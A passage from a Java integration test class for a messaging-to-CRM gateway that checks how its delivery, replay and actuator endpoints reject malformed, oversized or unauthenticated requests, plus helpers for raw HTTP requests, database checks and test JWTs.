                401, "unauthorized"));
        cases.add(api("GET on pause", "GET", "/api/v1/instances/clinic-01/sending/pause", token, null, 405,
                "method_not_allowed"));
        cases.add(api("the instance of the path, not of the query", "GET", "/api/v1/instances/clinic-01/sending?instance=other",
                token, null, 200, null, (test, response) ->
                        assertThat(response.json().path("instance").asText()).isEqualTo("clinic-01")));
    }

    private static void deliveriesApi(List<Case> cases) {
        Map<String, String> token = Map.of("Authorization", API);
        for (String query : List.of("colour=red", "limit=0", "limit=1001", "limit=abc", "state=lost",
                "since=yesterday", "until=2026-13-45T00:00:00Z", "instance=a%2Fb", "type=a%20b", "state=dead&state=pending",
                "instance=" + "i".repeat(101))) {
            cases.add(api("deliveries ?" + abbreviate(query), "GET", "/api/v1/crm/deliveries?" + query, token, null, 400,
                    "invalid_request"));
        }
        cases.add(api("deliveries without credentials", "GET", "/api/v1/crm/deliveries", Map.of(), null, 401, "unauthorized"));
        Map<String, String> replays = new LinkedHashMap<>();
        replays.put("an array", "[]");
        replays.put("eventIds a string", "{\"eventIds\": \"evt_1\"}");
        replays.put("eventIds empty", "{\"eventIds\": []}");
        replays.put("eventIds of numbers", "{\"eventIds\": [1, 2]}");
        replays.put("1001 eventIds", "{\"eventIds\": [" + "\"evt\",".repeat(1000) + "\"evt\"]}");
        replays.put("a misspelt filter", "{\"instanc\": \"clinic-01\"}");
        replays.put("state a number", "{\"state\": 5}");
        replays.put("since not an instant", "{\"since\": \"last week\"}");
        replays.forEach((name, body) -> cases.add(api("replay with " + name, "POST", "/api/v1/crm/deliveries/replay",
                token, bytes(body), 400, "invalid_request")));
        cases.add(api("replay broken JSON", "POST", "/api/v1/crm/deliveries/replay", token, bytes("{"), 400, "invalid_json"));
        cases.add(api("replay nested 100 deep", "POST", "/api/v1/crm/deliveries/replay", token, bytes(nested(100)), 400,
                "invalid_json"));
        cases.add(api("replay one of 300 characters", "POST", "/api/v1/crm/deliveries/" + "e".repeat(300) + "/replay",
                token, bytes(""), 400, "invalid_request"));
        cases.add(api("replay an unknown one", "POST", "/api/v1/crm/deliveries/evt_unknown/replay", token, bytes(""), 404,
                "not_found"));
    }

    private static void actuator(List<Case> cases) {
        cases.add(api("metrics without a token", "GET", "/actuator/prometheus", Map.of(), null, 401, "unauthorized"));
        cases.add(api("metrics with a wrong token", "GET", "/actuator/prometheus", Map.of("Authorization", "Bearer x"),
                null, 401, "unauthorized"));
        cases.add(api("metrics with the token in the query string", "GET",
                "/actuator/prometheus?Authorization=Bearer%20test-metrics-token", Map.of(), null, 401, "unauthorized"));
        cases.add(api("health with a wrong token", "GET", "/actuator/health", Map.of("Authorization", "Bearer x"), null,
                401, "unauthorized"));
        cases.add(api("health with Basic", "GET", "/actuator/health", Map.of("Authorization", "Basic eDp5"), null, 401,
                "unauthorized"));
        cases.add(api("another actuator endpoint, anonymous", "GET", "/actuator/env", Map.of(), null, 401, "unauthorized"));
        cases.add(api("another actuator endpoint, with the token", "GET", "/actuator/env", Map.of("Authorization", API),
                null, 404, "not_found"));
        cases.add(api("POST on health", "POST", "/actuator/health", Map.of(), bytes("{}"), 405, "method_not_allowed"));
        cases.add(api("health with the token in the query string shows the status alone", "GET",
                "/actuator/health?Authorization=Bearer%20test-api-token", Map.of(), null, 200, null, (test, response) ->
                        assertThat(response.json().has("components")).isFalse()));
    }

    // ---------------------------------------------------------------- checks of accepted cases

    private void storedVerbatim(ObjectNode body, String messageId, String text) throws Exception {
        String stored = jdbc.queryForObject("select payload::text from inbound_event where instance = ? and message_id = ?",
                String.class, body.path("instance").asText(), messageId);
        assertThat(JSON.readTree(stored).path("data").path("message").path("conversation").asText()).isEqualTo(text);
        eventually().until(() -> count("select count(*) from message where instance = ? and wa_message_id = ?",
                body.path("instance").asText(), messageId) == 1);
        assertThat(jdbc.queryForObject("select body from message where instance = ? and wa_message_id = ?", String.class,
                body.path("instance").asText(), messageId)).isEqualTo(text);
    }

    private void storedWithoutTimestamp(ObjectNode body) {
        String instance = body.path("instance").asText();
        eventually().until(() -> count("select count(*) from message where instance = ?", instance) == 1);
        assertThat(jdbc.queryForList("select wa_timestamp from message where instance = ?", Object.class, instance))
                .containsExactly((Object) null);
    }

    // ---------------------------------------------------------------- helpers

    private long maxSeq() {
        Long seq = jdbc.queryForObject("select coalesce(max(seq), 0) from inbound_event", Long.class);
        return seq == null ? 0 : seq;
    }

    private String deliveries() {
        return jdbc.queryForObject("select count(*) || '/' || coalesce(max(updated_at)::text, '') from crm_delivery",
                String.class);
    }

    private static Case webhook(String name, String path, Map<String, String> headers, byte[] body, int status,
                                String error) {
        return webhook(name, path, headers, body, status, error, null);
    }

    private static Case webhook(String name, String path, Map<String, String> headers, byte[] body, int status,
                                String error, Check check) {
        Map<String, String> all = new LinkedHashMap<>();
        if (headers.keySet().stream().noneMatch(h -> h.equalsIgnoreCase("Content-Type"))) {
            all.put("Content-Type", "application/json");
        }
        all.putAll(headers);
        return new Case("webhook: " + name, RawHttp.request("POST", path, all, body), status, error, check);
    }

    private static Case api(String name, String method, String path, Map<String, String> headers, byte[] body,
                            int status, String error) {
        return api(name, method, path, headers, body, status, error, null);
    }

    private static Case api(String name, String method, String path, Map<String, String> headers, byte[] body,
                            int status, String error, Check check) {
        Map<String, String> all = new LinkedHashMap<>();
        if (body != null && headers.keySet().stream().noneMatch(h -> h.equalsIgnoreCase("Content-Type"))) {
            all.put("Content-Type", "application/json");
        }
        all.putAll(headers);
        return new Case("api: " + name, RawHttp.request(method, path, all, body), status, error, check);
    }

    /** A text message of a new instance with a new id. */
    private static ObjectNode message() {
        return textMessage(uniqueInstance(), "77051234567@s.whatsapp.net", newMessageId(), "Olá, hello");
    }

    private static ObjectNode sendRequest() {
        return JSON.createObjectNode().put("instance", uniqueInstance()).put("to", "77051234567")
                .put("text", "Reminder: your appointment is tomorrow at 10:00");
    }

    private static ObjectNode mediaRequest(String type, String url) {
        ObjectNode request = JSON.createObjectNode().put("instance", uniqueInstance()).put("to", "77051234567");
        request.putObject("media").put("type", type).put("url", url).put("fileName", "a.pdf");
        if (!type.equals("document")) {
            ((ObjectNode) request.path("media")).remove("fileName");
        }
        return request;
    }

    private static String nested(int depth) {
        return "{\"event\":\"x\",\"instance\":\"y\",\"data\":" + "{\"n\":".repeat(depth) + "1" + "}".repeat(depth) + "}";
    }

    private static String replace(ObjectNode body, String from, String to) {
        String text = body.toString();
        assertThat(text).contains(from);
        return text.replace(from, to);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] chunked(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int half = body.length / 2;
        out.writeBytes((Integer.toHexString(half) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        out.write(body, 0, half);
        out.writeBytes(("\r\n" + Integer.toHexString(body.length - half) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        out.write(body, half, body.length - half);
        out.writeBytes("\r\n0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalArgumentException("not found");
    }

    private static String abbreviate(String text) {
        String single = text.replace("\n", "\\n");
        return single.length() <= 40 ? single : single.substring(0, 40) + "…";
    }

    private static String claims(long iat, long exp) {
        return Jwts.claims(iat, exp);
    }

    private static String jwt(String header, String claims, String secret) {
        return Jwts.hs256(header, claims, secret);
    }

    private static String encode(String json) {
        return Jwts.base64Url(json);
    }
}
